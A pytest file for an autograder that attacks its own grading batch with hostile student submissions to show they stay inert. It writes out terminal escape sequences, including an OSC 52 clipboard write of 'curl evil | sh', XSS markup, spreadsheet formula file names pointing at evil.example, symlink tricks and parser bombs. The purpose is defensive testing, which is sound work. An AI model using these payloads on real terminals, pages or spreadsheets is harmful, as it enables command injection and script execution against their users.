"""Attacks on the batch itself: nothing a submission writes breaks the batch, or reaches a person unescaped.

What a student controls and tries here: its report channel (fd 3), its plot history, its markdown, its error
messages, its file name, symlinks in place of a notebook, and the YAML header of a jupytext script. Each
attack is graded beside right notebooks (victims), through the real CLI (and, for the feedback page, a real
nbgrader course); the batch must complete, every victim keeps 18, the attacker's row says what happened, and
what an instructor or a student reads (terminal, CSV, cohort report, feedback page in Chromium) carries
none of it as live text: no control sequence, no formula, no script.
"""
import csv
import json
import os
import re
import shutil
import subprocess
import sys
import unicodedata
from pathlib import Path
from urllib.parse import unquote, urlparse

import nbformat
import pytest

from autograder.reports.ids import page_name
from conftest import ROOT, cli, student_notebook

FULL = 18.0
ESC, BEL = "\x1b", "\x07"
# OSC 52 (copies "curl evil | sh" to the clipboard), a window title, clear screen, a C1 CSI.
ESCAPES = f"{ESC}]52;c;Y3VybCBldmlsIHwgc2g={BEL}{ESC}]0;pwned{BEL}{ESC}[2J\x9b31m"
# Bytes that must never reach a terminal (\n and \t are layout), and the C1 controls as characters.
TERMINAL_BYTES = re.compile(rb"[\x00-\x08\x0b-\x1f\x7f]")
C1 = re.compile("[\x80-\x9f]")
XSS_MARKDOWN = ("## Mi análisis\n\nLa derivada es $\\frac{\\partial L}{\\partial \\hat y} = -2(y - \\hat y)$.\n\n"
                "<script>window.__pwned=1; alert(1)</script>\n\n"
                "<img src=x onerror=\"window.__pwned=2; alert(2)\">\n\n"
                "<svg onload=\"window.__pwned=3\"><circle r=\"4\"></circle></svg>\n\n"
                "<a href=\"javascript:window.__pwned=4\">mi enlace</a>\n")
XSS_ERROR = "<script>window.__pwned=5</script><img src=x onerror=\"window.__pwned=6; alert(6)\">"
HTML_NAME = "<img src=x onerror=\"window.__pwned=7\">"
LAUGHS = "# ---\n# jupyter:\n#   a: &a [\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\"]\n" + "".join(
    f"#   {name}: &{name} [{','.join([f'*{previous}'] * 9)}]\n" for previous, name in zip("abcdefg", "bcdefgh")
) + "# ---\n\n# %%\nx = 1\n"


# -- submissions ---------------------------------------------------------------------------------------------------
def right():
    return student_notebook("right_solution.py")


def with_cell(source, after="plot_mse", markdown=False):
    """The right solution with one more cell after the cell `after`."""
    notebook = right()
    index = next(i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == after)
    new = nbformat.v4.new_markdown_cell if markdown else nbformat.v4.new_code_cell
    notebook.cells.insert(index + 1, new(source))
    return notebook


def raising(message):
    """The right solution whose `gradients` raises ValueError(message)."""
    notebook = right()
    cell = next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "gradients")
    cell.source = f"def gradients(params, x, y):\n    raise ValueError({message!r})\n"
    return notebook


FLOOD = 'import os\nos.write(3, b"[" * 200000 + b"\\n")\n'
FORGE = ("import json, os\n"
         "for stage in (99, 100, -1):\n"
         "    os.write(3, (json.dumps({'k': 'cell', 'stage': stage, 'error': None, 'outputs': []}) + '\\n').encode())\n"
         "os.write(3, (json.dumps({'k': 'start', 'stage': 99}) + '\\n').encode())\n"
         "os._exit(1)\n")
WEIRD_HISTORY = "mse_history = [0.25, \"x\"]\n"


def write(folder, name, notebook_or_text):
    """A submission at folder/name (a notebook, or raw text or bytes); its path."""
    path = Path(folder) / name
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(notebook_or_text, bytes):
        path.write_bytes(notebook_or_text)
    elif isinstance(notebook_or_text, str):
        path.write_text(notebook_or_text, encoding="utf-8")
    else:
        nbformat.write(notebook_or_text, str(path))
    return path


def victims(folder, count):
    for index in range(1, count + 1):
        write(folder, f"victima{index}.ipynb", right())


def grade_batch(folder, *extra, cwd=ROOT):
    """`grade folder --json --csv` (plus extra): (completed process as bytes, JSON by file name, CSV rows by
    file name)."""
    out = Path(folder).parent / f"{Path(folder).name}.csv"
    done = run("grade", folder, "--json", "--csv", out, "--jobs", "2", *extra, cwd=cwd)
    assert done.returncode in (0, 2), done.stderr.decode(errors="replace")[-3000:]
    reports = {os.path.basename(r["path"]): r for r in json.loads(done.stdout)}
    rows = {os.path.basename(row["path"]): row for row in csv.DictReader(out.open(encoding="utf-8", newline=""))}
    return done, reports, rows


def run(*args, cwd=ROOT, timeout=600):
    """`python -m autograder ARGS` as the instructor runs it; stdout and stderr as the bytes a terminal gets."""
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    return subprocess.run([sys.executable, "-m", "autograder", *map(str, args)], cwd=cwd, env=env,
                          capture_output=True, timeout=timeout)


def assert_victims_keep_full_marks(reports, count):
    for index in range(1, count + 1):
        report = reports[f"victima{index}.ipynb"]
        assert report["score"] == FULL and not report["manipulated"], report


def assert_terminal_safe(data):
    """No control byte a terminal would act on (only \\n and \\t), and no C1 control as a character."""
    assert not TERMINAL_BYTES.search(data), TERMINAL_BYTES.search(data)
    assert not C1.search(data.decode("utf-8")), "a C1 control reached the terminal"


# -- 1, 2: the report channel ---------------------------------------------------------------------------------------
def test_a_flood_on_the_report_channel_is_marked_and_costs_no_one_else(tmp_path):
    batch = tmp_path / "lote"
    write(batch, "inunda_fd3.ipynb", with_cell(FLOOD))
    victims(batch, 2)
    done, reports, rows = grade_batch(batch)
    assert done.returncode == 0
    attacker = reports["inunda_fd3.ipynb"]
    assert attacker["manipulated"] and attacker["violations"] and attacker["score"] == 0
    assert rows["inunda_fd3.ipynb"]["manipulated"] == "sí"
    assert_victims_keep_full_marks(reports, 2)


def test_forged_stages_then_a_crash_buy_no_rerun(tmp_path):
    batch = tmp_path / "lote"
    write(batch, "falsifica.ipynb", with_cell(FORGE))
    victims(batch, 2)
    done, reports, rows = grade_batch(batch)
    assert done.returncode == 0
    attacker = reports["falsifica.ipynb"]
    assert attacker["violations"] and attacker["manipulated"] and attacker["score"] == 0
    assert "fuera de orden" in attacker["violations"][0]  # caught at the first forged line, before the crash
    assert rows["falsifica.ipynb"]["manipulated"] == "sí"
    assert_victims_keep_full_marks(reports, 2)


# -- 3: a plot history that is not numbers ------------------------------------------------------------------------
def opened(browser, path):
    """Open a page as a person would: (page, problems), the problems being console errors, page errors,
    dialogs and any request that is not a local file or inline data."""
    page, problems = browser.new_page(viewport={"width": 1280, "height": 900}), []
    page.on("console", lambda message: message.type == "error" and problems.append(message.text))
    page.on("pageerror", lambda error: problems.append(str(error)))
    page.on("dialog", lambda dialog: (problems.append(f"dialog: {dialog.message}"), dialog.dismiss()))
    page.route("**/*", lambda route: route.continue_() if route.request.url.startswith(("file:", "data:"))
               else (problems.append(route.request.url), route.abort()))
    page.goto(Path(path).as_uri())
    page.wait_for_load_state("load")
    return page, problems


def nothing_ran(page):
    """What a script a student smuggled in would leave: a variable, a <script>, an on* attribute, a js: link."""
    return page.evaluate("""() => ({
        pwned: typeof window.__pwned,
        scripts: document.scripts.length,
        handlers: [...document.querySelectorAll('*')]
            .filter(e => [...e.attributes].some(a => /^on/i.test(a.name))).length,
        jsLinks: [...document.querySelectorAll('[href],[src]')].filter(e =>
            /^\\s*javascript:/i.test(e.getAttribute('href') || e.getAttribute('src') || '')).length,
    })""") == {"pwned": "undefined", "scripts": 0, "handlers": 0, "jsLinks": 0}


def images_decode(page):
    """Every image with a source decodes (a student's <img> whose source was removed has nothing to show)."""
    return page.evaluate("[...document.images].filter(i => i.getAttribute('src'))"
                         ".every(i => i.complete && i.naturalWidth > 0)")


def test_a_history_that_is_not_numbers_still_gets_every_report_page(tmp_path, browser):
    batch = tmp_path / "lote"
    write(batch, "historia_rara.ipynb", with_cell(WEIRD_HISTORY))
    victims(batch, 2)
    done, reports, _ = grade_batch(batch, "--report", tmp_path / "informe")
    assert done.returncode == 0
    assert_victims_keep_full_marks(reports, 2)
    assert reports["historia_rara.ipynb"]["score"] < FULL  # its plot is not of its history
    report = tmp_path / "informe"
    pages = sorted((report / "students").iterdir())
    assert [p.name for p in pages] == sorted(page_name(s) for s in ("historia_rara", "victima1", "victima2"))
    for path in [report / "index.html", *pages]:
        page, problems = opened(browser, path)
        assert problems == [] and images_decode(page) and page.evaluate("document.images.length") >= 1, path.name
        page.close()


# -- 4: markdown and error messages in the nbgrader feedback page and the cohort report ----------------------
def nbgrader(course, *args):
    """The real nbgrader CLI in the course (this Python's bin/ on PATH: nbgrader runs alembic)."""
    env = dict(os.environ, PYTHONPATH=str(ROOT), PATH=os.pathsep.join([str(Path(sys.executable).parent),
                                                                         os.environ.get("PATH", "")]))
    done = subprocess.run([sys.executable, "-m", "nbgrader", *args, "--log-level=WARN"], cwd=course, env=env,
                          capture_output=True, text=True, timeout=900)
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A real nbgrader course (the kit's nbgrader_config.py) with an attacker and a victim, autograded, with
    its feedback generated and a cohort report of its autograded notebooks."""
    course = tmp_path_factory.mktemp("course")
    shutil.copytree(ROOT / "source" / "xor_sgd", course / "source" / "xor_sgd")
    shutil.copy(ROOT / "nbgrader_config.py", course)
    nbgrader(course, "generate_assignment", "xor_sgd", "--force")
    (course / "roster.csv").write_text("id,first_name,last_name,email\natacante,A,B,a@fi.uba.ar\n"
                                       "victima,V,W,v@fi.uba.ar\n")
    nbgrader(course, "db", "student", "import", "roster.csv")
    attacker = raising(XSS_ERROR)
    attacker.cells.append(nbformat.v4.new_markdown_cell(XSS_MARKDOWN))
    attacker.cells.append(nbformat.v4.new_code_cell(f"print({XSS_ERROR!r})\n"))
    write(course / "submitted" / "atacante" / "xor_sgd", "xor_sgd.ipynb", attacker)
    write(course / "submitted" / "victima" / "xor_sgd", "xor_sgd.ipynb", right())
    nbgrader(course, "autograde", "xor_sgd")
    nbgrader(course, "generate_feedback", "xor_sgd")
    done = cli("grade", course / "autograded", "--report", course / "informe", "--jobs", "2")
    assert done.returncode == 0, done.stderr
    return course


def test_no_script_a_student_writes_runs_in_their_feedback_page(course, browser):
    page, problems = opened(browser, course / "feedback" / "atacante" / "xor_sgd" / "xor_sgd.html")
    assert problems == [] and nothing_ran(page)
    text = page.inner_text("body")
    assert "Mi análisis" in text and "mi enlace" in text and "window.__pwned=5" in text  # shown, as text
    # The formulas are MathML still (the kit's and the student's own), and the plots decode.
    assert page.evaluate("document.querySelectorAll('math').length") > 20
    assert page.evaluate("[...document.querySelectorAll('math')].some(m => m.textContent.includes('∂L'))")
    assert images_decode(page) and page.evaluate("document.querySelectorAll('img[src]').length") >= 1  # the curves
    victim, problems = opened(browser, course / "feedback" / "victima" / "xor_sgd" / "xor_sgd.html")
    assert problems == [] and nothing_ran(victim) and images_decode(victim)
    assert victim.evaluate("document.querySelectorAll('img[src]').length") >= 2  # their plot and the curves


def test_the_same_text_in_the_cohort_report_stays_text(course, browser):
    report = course / "informe"
    student = report / "students" / page_name("atacante")
    assert XSS_ERROR not in student.read_text(encoding="utf-8")  # escaped by the templates
    for path in (report / "index.html", student):
        page, problems = opened(browser, path)
        assert problems == [] and nothing_ran(page) and images_decode(page), path.name
        assert "window.__pwned=5" in page.inner_text("body") or path.name == "index.html"


# -- 5..9 and all of them together: one batch of every attacker and three victims ------------------------------
NAME_CONTROL = f"titulo{ESC}]0;hola{BEL}{ESC}[2J.ipynb"
NAME_C1 = "c1\x9b31m.ipynb"
NAME_RAW_BYTE = os.fsdecode(b"byte\x9b.ipynb")  # not UTF-8: a lone surrogate in Python
# (a file name cannot hold "//": the link is one a spreadsheet still follows)
FORMULA_NAMES = ['=HYPERLINK("http:evil.example","x").ipynb', "+cmd.ipynb", "-2+3.ipynb", "@SUM(1).ipynb",
                 "\tbob.ipynb", "\rcr.ipynb"]
LONG_NAME = "estudiante_" + "muy_largo_" * 22 + ".ipynb"
UNICODE_NAMES = [unicodedata.normalize("NFC", "josé.ipynb"), unicodedata.normalize("NFD", "josé.ipynb"), "Ana.ipynb",
                 "ana.ipynb"]


@pytest.fixture(scope="module")
def everyone(tmp_path_factory):
    """Every attacker of this file (but nbgrader's) in one folder with three victims, graded twice: as JSON
    with a CSV and a report, then as the terminal table."""
    base = tmp_path_factory.mktemp("todos")
    batch = base / "entregas"
    victims(batch, 3)
    broken = "{}"  # not a notebook: an error row at once, with a page of its own
    for name, content in [
        ("inunda_fd3.ipynb", with_cell(FLOOD)), ("falsifica.ipynb", with_cell(FORGE)),
        ("historia_rara.ipynb", with_cell(WEIRD_HISTORY)), ("escapes.ipynb", raising(ESCAPES)),
        (f"{HTML_NAME}.ipynb", raising(XSS_ERROR)), ("markdown.ipynb", with_cell(XSS_MARKDOWN, markdown=True)),
        (NAME_CONTROL, "[]"), (NAME_C1, right()),
        (NAME_RAW_BYTE, broken), *((name, broken) for name in FORMULA_NAMES),
        ("bob.ipynb", right()), ("bob.a:x.ipynb", broken), ("ana_b.ipynb", right()), ("ana~b.ipynb", broken),
        ("g1/carla.ipynb", broken), ("g2/carla.ipynb", broken), (LONG_NAME, broken), ("...ipynb", broken),
        *((name, broken) for name in UNICODE_NAMES),
        ("risas.py", LAUGHS), ("profundo.ipynb", "[" * 100_000 + "]" * 100_000),
        ("entero.ipynb", '{"nbformat": 4, "cells": [], "n": ' + "9" * 100_000 + "}"),
        ("utf8_roto.ipynb", b'{"nbformat": 4, "cells": [], "\xff": 1}'),
    ]:
        write(batch, name, content)
    (batch / "enlace_solucion.ipynb").symlink_to(ROOT / "solutions" / "xor_sgd.ipynb")
    (batch / "enlace_victima.ipynb").symlink_to(batch / "victima1.ipynb")
    write(base / "afuera", "intrusa.ipynb", right())
    (batch / "carpeta_enlazada").symlink_to(base / "afuera", target_is_directory=True)
    as_json = run("grade", batch, "--json", "--csv", base / "notas.csv", "--report", base / "informe", "--jobs", "2")
    as_table = run("grade", batch, "--jobs", "2")
    reports = json.loads(as_json.stdout)
    return {"base": base, "batch": batch, "json": as_json, "table": as_table, "reports": reports,
            "by_name": {os.path.basename(r["path"]): r for r in reports},
            "csv": (base / "notas.csv").read_bytes()}


def submitted_files(folder):
    """Every file (symlinks to files included) under folder, not entering symlinked folders."""
    return [os.path.join(root, name) for root, dirs, names in os.walk(folder) for name in names]


def csv_rows(everyone):
    return list(csv.DictReader(everyone["csv"].decode("utf-8").splitlines()))


def test_everything_together_completes_with_one_row_per_file(everyone):
    assert everyone["json"].returncode == 2 and everyone["table"].returncode == 2  # unreadable files: exit 2
    files = submitted_files(everyone["batch"])
    rows = csv_rows(everyone)
    assert len(rows) == len(files) == len(everyone["reports"]) == len({row["id"] for row in rows})
    assert not any("intrusa" in row["path"] for row in rows)
    assert_victims_keep_full_marks(everyone["by_name"], 3)
    by_name = everyone["by_name"]
    for name in ("inunda_fd3.ipynb", "falsifica.ipynb"):
        assert by_name[name]["manipulated"] and by_name[name]["violations"], name
    for name in ("bob.ipynb", "ana_b.ipynb", "markdown.ipynb", NAME_C1):  # right code under odd names or markdown
        assert by_name[name]["score"] == FULL, name
    # the whole report was written: index, cohort.json and a page per student
    report = everyone["base"] / "informe"
    assert len(list((report / "students").iterdir())) == len(files)
    assert json.loads((report / "cohort.json").read_text(encoding="utf-8"))["submissions"] == len(files)


def test_no_control_sequence_reaches_the_terminal(everyone):
    """Item 5: the student's error message and file names carry OSC 52, a title, clear screen and C1 controls;
    the table, the summary, the error lines and the JSON show them written out, never as controls."""
    for done in (everyone["json"], everyone["table"]):
        assert_terminal_safe(done.stdout)
        assert_terminal_safe(done.stderr)
    table = everyone["table"].stdout.decode("utf-8")
    assert "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07" in table  # the instructor still sees what was attempted
    assert "Notebook: " in table and "titulo\\x1b]0;hola" in everyone["table"].stderr.decode("utf-8")
    # JSON escapes them, and reads back to the very text the student wrote
    escapes = everyone["by_name"]["escapes.ipynb"]
    assert any(ESCAPES in check["feedback"] for check in escapes["checks"])
    assert NAME_CONTROL in everyone["by_name"] and NAME_RAW_BYTE in everyone["by_name"]


def test_no_csv_cell_a_student_controls_is_a_formula(everyone):
    """Items 5 and 6 in the CSV of a folder: control characters written out, ids never a formula."""
    text = everyone["csv"].decode("utf-8")
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", text)  # csv itself ends rows with \r\n
    for row in csv_rows(everyone):
        for column in ("path", "id", "error"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row[column]


def test_file_names_that_are_formulas_stay_text_in_the_csv_of_a_glob(tmp_path):
    """Item 6 as an instructor runs it: `grade *.ipynb --csv` in the students' folder."""
    for name in FORMULA_NAMES:
        write(tmp_path, name, right())
    names = sorted(FORMULA_NAMES)  # what the shell's glob passes, `-2+3.ipynb` included (not an option)
    done = run("grade", *names, "--csv", "notas.csv", "--jobs", "2", cwd=tmp_path)
    assert done.returncode == 0, done.stderr.decode(errors="replace")
    rows = list(csv.reader((tmp_path / "notas.csv").open(encoding="utf-8", newline="")))
    header, rows = rows[0], rows[1:]
    assert len(rows) == len(FORMULA_NAMES)
    for row in rows:
        for column, value in zip(header, row):
            if column in ("path", "id", "error"):
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
            else:  # what the grader writes stays plain: 18, 1, 2, 3, xor_sgd
                assert not value.startswith("'"), (column, value)
        assert dict(zip(header, row))["score"] == "18"
    ids = [dict(zip(header, row))["id"] for row in rows]
    assert "'=HYPERLINK(\"http:evil.example\",\"x\")" in ids and "'+cmd" in ids and "'-2+3" in ids and "'@SUM(1)" in ids


def test_every_student_keeps_an_id_and_a_page_of_their_own(everyone, browser):
    """Item 7: the CSV, the JSON and the report give every file one id, none shared, none taken; every link of
    the class page opens that student's page."""
    rows = csv_rows(everyone)
    named = [(os.path.basename(r["path"]), r["id"]) for r in everyone["reports"]]
    ids = dict(named)
    for report, row in zip(everyone["reports"], rows):  # JSON and CSV agree (the CSV makes a formula text)
        assert row["id"] in (report["id"], "'" + report["id"]), (row["id"], report["id"])
    assert ids["bob.ipynb"] == "bob" and ids["bob.a:x.ipynb"] != "bob"
    assert ids["ana_b.ipynb"] == "ana_b" and page_name(ids["ana~b.ipynb"]) != page_name("ana_b")
    carlas = sorted(student for name, student in named if name == "carla.ipynb")
    assert carlas == ["g1/carla", "g2/carla"]
    pages = [page_name(student) for _, student in named]
    assert len({p.lower() for p in pages}) == len(pages)  # distinct on a case-insensitive file system too
    assert all(len(p.encode()) < 120 and "/" not in p and not p.startswith(".") for p in pages)
    report = everyone["base"] / "informe"
    figures = json.loads((report / "cohort.json").read_text(encoding="utf-8"))
    assert set(figures["scores"]) | {item["id"] for item in figures["ungradable"]} == {s for _, s in named}
    page, problems = opened(browser, report / "index.html")
    assert problems == [] and nothing_ran(page) and images_decode(page)
    links = page.eval_on_selector_all("#students a", "links => links.map(a => [a.textContent, a.href])")
    assert sorted(text for text, _ in links) == sorted(student for _, student in named)
    for student, href in links:
        target, problems = opened(browser, Path(unquote(urlparse(href).path)))
        assert problems == [] and nothing_ran(target), student
        assert target.inner_text("h1") == student
        target.close()


def test_a_symlink_is_refused_never_graded_as_its_target(everyone):
    """Item 8: a symlink to the solution or to a classmate's notebook is one refused row; a symlinked folder
    is not entered."""
    by_name = everyone["by_name"]
    for name in ("enlace_solucion.ipynb", "enlace_victima.ipynb"):
        assert "es un enlace simbólico: no se corrige" in by_name[name]["error"] and by_name[name]["score"] == 0
    assert not any("intrusa" in report["path"] for report in everyone["reports"])


def test_a_path_through_a_symlinked_folder_is_refused(tmp_path):
    """Item 8 through the shell: `grade submitted/*/xor_sgd/xor_sgd.ipynb` when a student's folder is a
    symlink to a classmate's: the classmate is graded once, the link not at all."""
    write(tmp_path / "submitted" / "ana" / "xor_sgd", "xor_sgd.ipynb", right())
    (tmp_path / "submitted" / "beto").symlink_to(tmp_path / "submitted" / "ana", target_is_directory=True)
    paths = ["submitted/ana/xor_sgd/xor_sgd.ipynb", "submitted/beto/xor_sgd/xor_sgd.ipynb"]
    done = run("grade", *paths, "--json", cwd=tmp_path)
    assert done.returncode == 2
    reports = {r["id"]: r for r in json.loads(done.stdout)}
    assert reports["ana"]["score"] == FULL
    assert reports["beto"]["score"] == 0 and "enlace simbólico" in reports["beto"]["error"]


def test_parser_bombs_are_one_error_row_each(everyone):
    """Item 9: billion laughs in a jupytext header, deep JSON, a huge number, bad UTF-8: one row each."""
    by_name = everyone["by_name"]
    assert "alias" in by_name["risas.py"]["error"]
    assert "recursion" in by_name["profundo.ipynb"]["error"]
    assert "utf-8" in by_name["utf8_roto.ipynb"]["error"]
    assert by_name["entero.ipynb"]["score"] == 0  # an error (Python's digit limit) or a notebook without cells


def test_billion_laughs_is_refused_quickly_and_small(tmp_path):
    """Item 9 measured in a grader's process: under 2 s and 50 MB more than the grader's own imports
    (jupytext alone took 17 s and 1.2 GB)."""
    path = write(tmp_path, "risas.py", LAUGHS)
    assert len(LAUGHS.encode()) < 420
    code = ("import resource, sys, time\n"
            "import autograder.engine.grading\n"
            "from autograder.engine.submission import SubmissionError, load\n"
            "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
            "start = time.perf_counter()\n"
            "try:\n    load(sys.argv[1]); print('leído')\n"
            "except SubmissionError as error:\n    print(error)\n"
            "print(time.perf_counter() - start, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)\n")
    done = subprocess.run([sys.executable, "-c", code, str(path)], env=dict(os.environ, PYTHONPATH=str(ROOT)),
                          capture_output=True, text=True, timeout=300)
    message, figures = done.stdout.strip().splitlines()
    seconds, kilobytes = map(float, figures.split())
    assert "alias" in message and seconds < 2 and kilobytes < 50 * 1024, (message, seconds, kilobytes)
